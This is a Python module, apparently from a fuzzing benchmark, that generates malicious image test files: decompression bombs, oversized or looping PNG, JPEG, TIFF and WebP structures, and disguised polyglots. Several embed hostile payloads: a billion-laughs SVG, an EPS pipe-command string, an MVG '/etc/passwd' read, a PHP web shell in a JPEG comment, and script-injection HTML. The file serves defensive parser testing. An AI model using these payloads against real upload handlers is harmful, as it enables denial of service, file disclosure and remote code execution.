"""Known bombs and files that are something else: made here, small as files, huge or endless for who believes them."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Iterator

import numpy as np
from PIL import Image

from benchmarks.fuzzing import bases, pictures


def _png_of(width: int, height: int, *, depth: int = 1, raw: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    return pictures.png_bytes([[b"IHDR", header], [b"IDAT", raw], [b"IEND", b""]])


def _flat_png(width: int, height: int) -> bytes:
    row = b"\0" * (1 + (width + 7) // 8)
    return _png_of(width, height, raw=zlib.compress(row * height, 9))


def _png_with(chunk: bytes, payload: bytes, copies: int = 1) -> bytes:
    chunks = pictures.png_chunks(bases.pngs()[1])
    return pictures.png_bytes([chunks[0], *[[chunk, payload]] * copies, *chunks[1:]])


def _inflated(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(b"\0" * (1 << 20)) for _ in range(megabytes)) + packer.flush()


def _apng(frames: int) -> bytes:
    chunks = pictures.png_chunks(bases.pngs()[1])
    control = [b"acTL", struct.pack(">II", frames, 0)]
    made = []
    for n in range(min(frames, 3000)):
        made.append([b"fcTL", struct.pack(">IIIIIHHBB", 2 * n + 1, 520, 520, 0, 0, 1, 100, 0, 0)])
        made.append([b"fdAT", struct.pack(">I", 2 * n + 2) + zlib.compress(b"\0")])
    return pictures.png_bytes([chunks[0], control, *chunks[1:-1], *made, chunks[-1]])


def _jpeg_sized(width: int, height: int) -> bytes:
    segments, rest = pictures.jpeg_segments(bases.jpegs()[2])
    for segment in segments:
        if segment[0] == 0xC0:
            segment[1] = segment[1][:1] + struct.pack(">HH", height, width) + segment[1][5:]
    out = b"".join(struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload for marker, payload in segments)
    return b"\xff\xd8" + out + rest


def _scans(side: int, copies: int) -> bytes:
    """A progressive JPEG whose last scan comes again and again: a pass over the picture for each."""
    out = io.BytesIO()
    Image.new("L", (side, side), 128).save(out, "JPEG", progressive=True, quality=50)
    data = out.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * copies + b"\xff\xd9"


def _tiff_strips(side: int, compression: int, packed: bytes, rows: int) -> bytes:
    """All strips are the same few bytes."""
    strips = side // rows
    long = ">" + "I" * strips
    tags = {
        256: (4, 1, struct.pack(">I", side)), 257: (4, 1, struct.pack(">I", side)), 258: (3, 1, b"\0\x08"),
        259: (3, 1, struct.pack(">H", compression)), 262: (3, 1, b"\0\x01"), 277: (3, 1, b"\0\x01"),
        278: (4, 1, struct.pack(">I", rows)),
        279: (4, strips, struct.pack(long, *[len(packed)] * strips)),
    }  # fmt: skip
    start = 8 + 2 + 12 * 9 + 4 + 2 * 4 * strips
    tags[273] = (4, strips, struct.pack(long, *[start] * strips))
    return bases.tiff_of(tags, packed, order=">")


def _tiff_pages(pages: int, *, loops: bool) -> bytes:
    """A chain of directories of one entry each; the last may lead back to the first."""
    out = [b"II*\0", struct.pack("<I", 8)]
    for n in range(pages):
        following = 8 + 18 * (n + 1) if n < pages - 1 else (8 if loops else 0)
        out.append(struct.pack("<HHHIII", 1, 256, 3, 1, 600, following))
    return b"".join(out) + b"\0" * 2000


def _tiff_tags(entries: int) -> bytes:
    """Thousands of tags that all point at the same million bytes."""
    size = 1 << 20
    rows = b"".join(struct.pack("<HHII", 1000 + n, 7, size, 8) for n in range(entries))
    return b"II*\0" + struct.pack("<IH", 8, entries) + rows + b"\0" * (4 + size)


def _webp_canvas(side: int, frames: int) -> bytes:
    chunks = pictures.riff_chunks(bases.webps()[4])
    frame = next(chunk for chunk in chunks if chunk[0] == b"ANMF")
    canvas = struct.pack("<I", side - 1)[:3] * 2
    body = (
        b"WEBP" + b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + canvas + b"ANIM" + struct.pack("<I", 6) + bytes(6)
    )
    one: bytes = b"ANMF" + struct.pack("<I", len(frame[1])) + frame[1] + b"\0" * (len(frame[1]) % 2)
    body += one * frames
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _icc_lies(count: int) -> bytes:
    profile = bytearray(bases.icc())
    struct.pack_into(">I", profile, 128, count)
    return bases.saved("JPEG", icc_profile=bytes(profile), seed=3)


def _flat(kind: str, width: int, height: int, **how: object) -> bytes:
    out = io.BytesIO()
    Image.fromarray(np.full((height, width), 200, np.uint8)).save(out, kind, **how)
    return out.getvalue()


_LAUGHS = b'<?xml version="1.0"?><!DOCTYPE svg [' + b"".join(
    b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"ha") for n in range(10)
) + b"]><svg xmlns='http://www.w3.org/2000/svg'><text>&a9;</text></svg>"  # fmt: skip

_MAKERS: dict[str, Callable[[], bytes]] = {
    "png of 65500 x 65500 by its header": lambda: _png_of(65_500, 65_500, depth=8, raw=zlib.compress(b"\0" * 999)),
    "png of 30000 x 30000, one bit": lambda: _flat_png(30_000, 30_000),
    "png of 7700 x 7700, just taken": lambda: _flat_png(7700, 7700),
    "png strip of 1 x 60000": lambda: _flat_png(1, 60_000),
    "png strip of 32766 x 1": lambda: _flat_png(32_766, 1),
    "png whose profile unpacks to 200 MB": lambda: _png_with(b"iCCP", b"x\0\0" + _inflated(200)),
    "png whose comment unpacks to 200 MB": lambda: _png_with(b"zTXt", b"Comment\0\0" + _inflated(200)),
    "png whose XMP unpacks to 200 MB": lambda: _png_with(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + _inflated(200)),
    "png of a hundred comments of 1 MB": lambda: _png_with(b"zTXt", b"C\0\0" + _inflated(1), 100),
    "png of 300000 empty chunks": lambda: _png_with(b"tEXt", b"a\0", 300_000),
    "png of 100000 empty data chunks": lambda: _png_with(b"IDAT", b"", 100_000),
    "png animated in 3000 frames": lambda: _apng(3000),
    "png that says 4 billion frames": lambda: _apng(0xFFFFFFFF),
    "jpg of 65500 x 65500": lambda: _jpeg_sized(65_500, 65_500),
    "jpg of 32766 x 1831 from a few bytes": lambda: _jpeg_sized(32_766, 1831),
    "jpg of 7700 x 7700, just taken": lambda: _flat("JPEG", 7700, 7700, quality=50),
    "jpg of 3000 scans": lambda: _scans(3000, 3000),
    "jpg of 90 scans of 36 megapixels": lambda: _scans(6000, 80),
    "jpg whose profile has 4 billion tags": lambda: _icc_lies(0xFFFFFFFF),
    "jpg whose profile has 100 tags too many": lambda: _icc_lies(100),
    "jpg strip of 1 x 32000": lambda: _flat("JPEG", 1, 32_000),
    "tif of 20000 x 20000, deflate": lambda: _tiff_strips(20_000, 8, _inflated(20), 1000),
    "tif of 7500 x 7500, one strip again and again": lambda: _tiff_strips(7500, 8, _inflated(4), 500),
    "tif of 7000 x 7000, LZW": lambda: _flat("TIFF", 7000, 7000, compression="tiff_lzw"),
    "tif of 100000 pages": lambda: _tiff_pages(100_000, loops=False),
    "tif of 1000000 pages in a circle": lambda: _tiff_pages(1_000_000, loops=True),
    "tif whose directory follows itself": lambda: _tiff_pages(1, loops=True),
    "tif of 30000 tags over one megabyte": lambda: _tiff_tags(30_000),
    "webp canvas of 16383 x 16383": lambda: _webp_canvas(16_383, 2),
    "webp animated in 3000 frames": lambda: _webp_canvas(520, 300),
    "jpg that is a GIF of 65535 x 65535": lambda: b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(3000),
    "jpg that is SVG with a billion laughs": lambda: _LAUGHS + b" " * 2000,
    "jpg that is EPS": lambda: (
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n(%pipe%id) (w) file\n" + b" " * 2000
    ),
    "png that is PDF": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n" * 40,
    "jpg that is MVG": lambda: (
        b"push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'label:@/etc/passwd'\n" * 30
    ),
    "jpg that is HTML": lambda: b"<!DOCTYPE html><script>alert(document.cookie)</script>" * 40,
    "jpg that is HEIC": lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(4000),
    "png that is a program": lambda: b"MZ\x90\0" + bytes(4000),
    "jpg that is nothing but zeros": lambda: bytes(5000),
    "jpg that is a web page too": lambda: bases.jpegs()[0] + b"<html><script>alert(1)</script></html>",
    "jpg that is a PHP program too": lambda: bases.saved("JPEG", comment=b"<?php system($_GET[0]); ?>", seed=2),
    "jpg that is a ZIP too": lambda: bases.jpegs()[0] + b"PK\x03\x04" + bytes(30) + b"PK\x05\x06" + bytes(18),
    "png that is JavaScript too": lambda: bases.pngs()[0] + b"*/=1;alert(1)//",
}


def bombs() -> Iterator[tuple[str, bytes]]:
    """Name (its first word is the ending it is sent under) and bytes of each."""
    for name, make in _MAKERS.items():
        yield name, make()
